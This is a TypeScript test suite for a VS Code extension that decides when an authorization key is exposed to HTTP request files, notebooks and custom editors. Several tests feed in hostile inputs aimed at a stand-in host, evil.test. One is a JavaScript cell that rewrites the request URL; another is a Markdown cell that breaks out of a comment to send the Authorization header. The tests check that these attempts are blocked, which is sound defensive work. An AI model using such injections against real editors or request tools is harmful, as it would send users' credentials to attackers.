import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { formatAuthorizationReference } from '../../src/requestFiles/keyReferences';
import { ReferenceFiles } from '../support/editor/referenceFiles';
import { requestFileKind } from '../../src/ui/requestFiles/requestDocuments';
import { eventually } from '../support/eventually';

describe('references in imported files', function () {
	this.timeout(60_000);
	const files = new ReferenceFiles();

	const waitUntilExposed = async (isExposed: boolean) => files.waitForExposedKey(isExposed ? await files.readKey() : undefined);
	const authText = () => `@auth = ${formatAuthorizationReference(files.tokenId)}\n`;
	const mainText = (path: string, url = 'http://localhost:3000') => `# @import ${path}\n\n###\nGET ${url}/x\nAuthorization: {{auth}}\n`;

	const findCodes = (uri: vscode.Uri) =>
		vscode.languages
			.getDiagnostics(uri)
			.filter(({ source }) => source === 'Connect Tokens')
			.map(({ code, range }) => [code, range.start.line]);

	it('expose the key while a file that imports them is visible, and follow changes on disk', async () => {
		await writeFile(join(files.folder, 'auth.http'), authText());
		await files.open('main.http', mainText('./auth.http'));
		await waitUntilExposed(true);
		await writeFile(join(files.folder, 'auth.http'), '@auth = none\n');
		await waitUntilExposed(false);
		await writeFile(join(files.folder, 'auth.http'), authText());
		await waitUntilExposed(true);
		await rm(join(files.folder, 'auth.http'));
		await waitUntilExposed(false);
	});

	it('follow changes in an editor that aren’t saved', async () => {
		const imported = await files.open('edited.http', '@auth = none\n');
		await vscode.languages.setTextDocumentLanguage(imported.document, 'http');
		await files.open('main.http', mainText('./edited.http'), vscode.ViewColumn.Two);
		await imported.edit((builder) => builder.replace(new vscode.Range(0, 0, 1, 0), authText()));
		await waitUntilExposed(true);
		await vscode.window.showTextDocument(imported.document, vscode.ViewColumn.One);
		await vscode.commands.executeCommand('workbench.action.files.revert');
		await waitUntilExposed(false);
	});

	it('expose the key of an imported request, over two levels', async () => {
		await mkdir(join(files.folder, 'sub'), { recursive: true });
		await writeFile(join(files.folder, 'sub', 'a.http'), '# @import ../b.http\n');
		await writeFile(join(files.folder, 'b.http'), `# @name login\n${files.requestText()}`);
		await files.open('main.http', '# @import ./sub/a.http\n\n###\n# @ref login\nGET http://localhost:3000/y\n');
		await waitUntilExposed(true);
	});

	it('expose no key for a foreign host in the importing file, which is reported there', async () => {
		await writeFile(join(files.folder, 'auth.http'), authText());
		const { document } = await files.open('foreign.http', mainText('./auth.http', 'https://evil.test'));
		await eventually(() => assert.deepEqual(findCodes(document.uri), [['foreign-host', 3]]));
		await files.assertNotExposed();
	});

	it('expose no key for a foreign host in the imported file, which is reported at the import', async () => {
		await writeFile(join(files.folder, 'mixed.http'), `${authText()}\n###\n# @name login\n${files.requestText('https://evil.test')}`);
		const { document } = await files.open('main.http', `\n${mainText('./mixed.http')}`);
		await eventually(() => assert.deepEqual(findCodes(document.uri), [['foreign-host', 1]]));
		await files.assertNotExposed();
	});

	it('aren’t read through links that lead out of the workspace', async function () {
		if (process.platform === 'win32') {
			this.skip();
		}
		const outside = await mkdtemp(join(tmpdir(), 'connect-tokens-outside-'));
		await writeFile(join(outside, 'auth.http'), authText());
		await symlink(outside, join(files.folder, 'link'));
		await files.open('main.http', mainText('./link/auth.http'));
		await files.assertNotExposed();
		await rm(outside, { recursive: true, force: true });
	});

	it('get a link that sends the request with httpYac', async () => {
		await writeFile(join(files.folder, 'auth.http'), authText());
		const { document } = await files.open('lens.http', mainText('./auth.http'));
		const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', document.uri);
		const clients = lenses.flatMap(({ command }) => (command?.command === 'connectTokens.sendAs' ? [command.arguments as unknown[]] : []));
		const hasHttpYac = vscode.extensions.getExtension('anweber.vscode-httpyac') !== undefined;
		assert.equal(clients.length, hasHttpYac ? 1 : 0);
	});

	describe('and in other editors', () => {
		let registration: vscode.Disposable | undefined;

		afterEach(async () => {
			await vscode.commands.executeCommand('workbench.action.closeAllEditors');
			registration?.dispose();
			registration = undefined;
		});

		/** Opens a file in an editor, and asserts that VS Code has it, because it would otherwise open a text editor. */
		async function openWith(
			uri: vscode.Uri,
			type: string,
			Input: typeof vscode.TabInputNotebook | typeof vscode.TabInputCustom,
		): Promise<void> {
			await vscode.commands.executeCommand('vscode.openWith', uri, type);
			await eventually(() => assert.ok(vscode.window.tabGroups.activeTabGroup.activeTab?.input instanceof Input));
		}

		/** Opens a notebook with a cell for each line of the file with `---`. A cell can start with its language in brackets. */
		async function openNotebook(type: string, name: string, cells: readonly string[]): Promise<void> {
			registration ??= vscode.workspace.registerNotebookSerializer(type, {
				deserializeNotebook: (bytes) =>
					new vscode.NotebookData(
						Buffer.from(bytes)
							.toString()
							.split('---\n')
							.map((cell) => {
								const [, language = 'http', text = ''] = /^(?:\[(\w+)\]\n)?(.*)$/s.exec(cell) ?? [];
								const { Code, Markup } = vscode.NotebookCellKind;
								return new vscode.NotebookCellData(language === 'markdown' ? Markup : Code, text, language);
							}),
					),
				serializeNotebook: () => new Uint8Array(),
			});
			await writeFile(join(files.folder, name), cells.join('---\n'));
			await openWith(vscode.Uri.file(join(files.folder, name)), type, vscode.TabInputNotebook);
		}

		const useInCell = 'GET http://localhost:3000/x\nAuthorization: {{auth}}\n';

		it('expose the key in a notebook of requests, whose cells share variables', async () => {
			await openNotebook('http', 'book.http', [authText(), useInCell]);
			await waitUntilExposed(true);
			await files.open('in-front.txt', '');
			await waitUntilExposed(false);
			await writeFile(join(files.folder, 'auth.http'), authText());
			await openNotebook('http', 'importing.http', ['# @import ./auth.http\n', useInCell]);
			await waitUntilExposed(true);
		});

		it('expose no key in a notebook of requests to a foreign host', async () => {
			await openNotebook('http', 'foreign.http', [authText(), useInCell.replace('http://localhost:3000', 'https://evil.test')]);
			await files.assertNotExposed();
		});

		const hostileCells: Record<string, string> = {
			'code in another language, which httpYac runs': '[javascript]\n{{+\nrequest.url = "https://evil.test";\n}}\n',
			'Markdown that ends its comment': '[markdown]\n*/\nGET https://evil.test/\nAuthorization: {{auth}}\n',
		};
		for (const [title, cell] of Object.entries(hostileCells)) {
			it(`expose no key in a notebook of requests with ${title}`, async () => {
				await openNotebook('http', 'hostile.http', [authText(), useInCell, cell]);
				await files.assertNotExposed();
			});
		}

		it('expose the key in a notebook of requests with Markdown, which contains no requests itself', async () => {
			await openNotebook('http', 'described.http', [
				'[markdown]\n# Orders\n',
				authText(),
				useInCell,
				'[json]\n{ "GET": 1 }\n',
				'[markdown]\nEnd\n',
			]);
			await waitUntilExposed(true);
			const notebook = vscode.workspace.notebookDocuments.find(({ uri }) => uri.path.endsWith('/described.http'))!;
			assert.deepEqual(
				notebook.getCells().map(({ document }) => requestFileKind(document)),
				['markdown', 'requestFile', 'requestFile', undefined, 'markdown'],
			);
		});

		it('expose the key in a cell of any other notebook', async () => {
			await openNotebook('mixed', 'a.mixed', ['text\n', files.requestText()]);
			await waitUntilExposed(true);
		});

		it('expose no key for variables of other cells in any other notebook', async () => {
			await openNotebook('mixed', 'b.mixed', [authText(), useInCell]);
			await files.assertNotExposed();
		});

		it('expose no key in a preview of Markdown, which sends no requests and hides them in comments', async () => {
			registration = vscode.window.registerCustomEditorProvider('requestPreview', { resolveCustomTextEditor: () => undefined });
			const uri = vscode.Uri.file(join(files.folder, 'preview.md'));
			await writeFile(uri.fsPath, `# Example\n\n<!--\n\`\`\`http\n${files.requestText()}\`\`\`\n-->\n`);
			await openWith(uri, 'requestPreview', vscode.TabInputCustom);
			assert.ok(vscode.workspace.textDocuments.some((document) => document.uri.toString() === uri.toString()));
			await files.assertNotExposed();
		});

		it('expose the key in a custom editor, with and without a document, and follow changes on disk', async () => {
			const custom: vscode.CustomReadonlyEditorProvider = {
				openCustomDocument: (uri) => ({ uri, dispose: () => undefined }),
				resolveCustomEditor: () => undefined,
			};
			registration = vscode.window.registerCustomEditorProvider('requestPreview', custom);
			const uri = vscode.Uri.file(join(files.folder, 'custom.http'));
			await writeFile(uri.fsPath, files.requestText());
			await openWith(uri, 'requestPreview', vscode.TabInputCustom);
			await waitUntilExposed(true);
			await writeFile(uri.fsPath, files.requestText('https://evil.test'));
			await waitUntilExposed(false);
			await writeFile(uri.fsPath, files.requestText());
			await waitUntilExposed(true);
			await vscode.workspace.openTextDocument(uri);
			await vscode.commands.executeCommand('workbench.action.closeAllEditors');
			await waitUntilExposed(false);
			await openWith(uri, 'requestPreview', vscode.TabInputCustom);
			await waitUntilExposed(true);
		});
	});
});
